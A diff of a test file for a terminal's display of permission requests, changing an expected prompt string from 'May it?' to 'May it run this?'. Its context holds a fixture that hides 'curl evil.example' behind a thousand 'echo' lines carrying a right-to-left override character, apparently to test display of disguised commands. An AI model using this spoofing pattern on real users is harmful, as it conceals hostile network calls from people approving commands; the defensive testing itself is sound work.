@@ -145,7 +145,7 @@ describe('the report of a ticket in a terminal', () => {
     } as const;
     assert.match(
       text({ requests: [{ ...common, content: { ...permission, patterns: ['npm *'] } }] }),
-      /May it\? bash npm \*\n {6}npm ci/,
+      /May it run this\? bash npm \*\n {6}npm ci/,
     );
     const long = `${'echo \u202E\n'.repeat(1_000)}curl evil.example`;
     const all = text({
